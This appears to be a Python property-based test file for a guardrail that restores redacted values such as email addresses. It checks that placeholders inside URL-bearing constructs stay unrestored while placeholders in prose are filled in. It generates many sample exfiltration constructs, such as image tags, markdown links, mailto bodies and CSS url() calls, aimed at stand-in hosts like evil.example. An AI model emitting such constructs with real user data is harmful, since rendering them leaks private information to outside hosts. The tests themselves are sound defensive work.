"""Restoring never writes a caller's value into anything a client would send somewhere: HTML
attributes, autolinks, link destinations and definitions, protocol-relative, mailto: and bare
URLs, CSS url() — generated at random, whole or streamed in random pieces. In prose, values
come back."""

from __future__ import annotations

from hypothesis import given, settings
from hypothesis import strategies as st

from gatehouse.guardrails.restore import Restorer

EMAIL = "jane.doe@example.com"
ORIGINALS = {"[EMAIL_1]": EMAIL}
P = "[EMAIL_1]"

HOSTS = st.sampled_from(["//evil.example", "https://evil.example", "http://evil.example", "evil.example", "www.evil.example"])
JOINS = st.sampled_from(["/", "/?q=", "?a=1&b=", "#", "/p/", "?body=", "/x%20", "="])
INNER = st.sampled_from(["", " ", "  ", " a ", "\n"])  # blanks where the construct allows them (quotes, <…>)
PROSE = st.lists(st.sampled_from(["Hello", "see", "below.", "ok", "(note)", "a>b", "x", "\n", "**b**", ")", "]"]),
                 max_size=8).map(" ".join)


@st.composite
def url_constructs(draw: st.DrawFn) -> str:
    host, join, inner = draw(HOSTS), draw(JOINS), draw(INNER)
    quote = draw(st.sampled_from(['"', "'"]))
    attribute = draw(st.sampled_from(["src", "href", "srcset", "data-x", "action", "poster", "title"]))
    tag = draw(st.sampled_from(["img", "a", "iframe", "form", "video", "div"]))
    other = draw(st.sampled_from(["", ' alt=">"', " class='a b'", ' width="1"']))
    forms = [
        f"<{tag}{other} {attribute}={quote}{host}{join}{inner}{P}{inner}{quote}>",
        f"<{tag} {attribute}={host}{join}{P}>",
        f"[text]({host}{join}{P})",
        f"![img]({host}{join}{P})",
        f"[text](<{host}{join}{inner}{P}>)",
        f'[text]({host}{join} "title {P}")',
        f"(mailto:x@y.example?body={inner.strip()}{P})",
        f"mailto:x@y.example?body={P}",
        f"[ref]: {host}{join}{P}",
        f"[ref]:\n  {host}{join}{P}",
        f"[ref]: {host}{join}\n  '{P}'",
        f"<{host}{join}{P}>",
        f"{host}{join}{P}",
        f"<div style={quote}background:url({host}{join}{inner}{P}){quote}>",
        f"<style>a {{ background: url({quote}{host}{join}{inner}{P}{quote}) }}</style>",
        f"{host}{join}{P}.",
    ]
    return draw(st.sampled_from(forms))


def streamed(text: str, cuts: list[int]) -> str:
    restorer = Restorer(ORIGINALS)
    points = sorted({cut % (len(text) + 1) for cut in cuts} | {0, len(text)})
    out = "".join(restorer.feed("f", text[a:b]) for a, b in zip(points, points[1:], strict=False))
    return out + restorer.flush("f")


@settings(max_examples=300, deadline=None)
@given(before=PROSE, construct=url_constructs(), after=PROSE, cuts=st.lists(st.integers(0, 400), max_size=20))
def test_a_placeholder_in_a_url_bearing_construct_stays_a_placeholder(before, construct, after, cuts):
    text = f"{before}\n{construct}\n{after}"  # on a line of its own: a link definition must start one
    whole = Restorer(ORIGINALS).apply(text)
    assert EMAIL not in whole and whole == text
    assert streamed(text, cuts) == whole


@st.composite
def prose_places(draw: st.DrawFn) -> str:
    return draw(st.sampled_from([f"{P}", f"({P})", f"**{P}**.", f'"{P}",', f"{P}:", f"_{P}_!", f"{P}?"]))


@settings(max_examples=150, deadline=None)
@given(before=PROSE, place=prose_places(), after=PROSE, cuts=st.lists(st.integers(0, 200), max_size=20))
def test_a_placeholder_in_prose_is_restored_whole_or_streamed(before, place, after, cuts):
    text = f"{before} {place} {after}"
    whole = Restorer(ORIGINALS).apply(text)
    if "<" not in before and "](" not in before:  # "a>b" is prose; an unclosed "<x" would hold a tag open
        assert whole == text.replace(P, EMAIL)
    assert streamed(text, cuts) == whole


def test_the_constructs_the_issue_named():
    restorer = Restorer(ORIGINALS)
    for said in (f'<img src="//evil/p?{P}">', f"(mailto:x@y?body={P})", f"[link]: //evil/?{P}",
                 f'<img alt=">" src="//evil/? {P} ">', f"[a](//evil/x 'it)s' {P})"):
        assert restorer.apply(f"Hi {P}. {said} Bye {P}") == f"Hi {EMAIL}. {said} Bye {EMAIL}"


def test_a_blank_line_ends_a_link_definition_and_a_tag_ends_at_its_bracket():
    restorer = Restorer(ORIGINALS)
    assert restorer.apply(f"[r]: //evil/?\n{P}\n\nThen {P}") == f"[r]: //evil/?\n{P}\n\nThen {EMAIL}"
    assert restorer.apply(f'<a href="/x">mail {P}</a>') == f'<a href="/x">mail {EMAIL}</a>'


def test_a_tag_opened_in_one_text_part_still_holds_the_next():
    body = {"choices": [{"index": 0, "message": {"content": [
        {"type": "text", "text": f"Hi {P}. <img src=\"//evil.example/?"}, {"type": "text", "text": f" {P} \">"}]}}]}
    Restorer(ORIGINALS).restore_response(body)
    assert [part["text"] for part in body["choices"][0]["message"]["content"]] == [
        f"Hi {EMAIL}. <img src=\"//evil.example/?", f" {P} \">"]
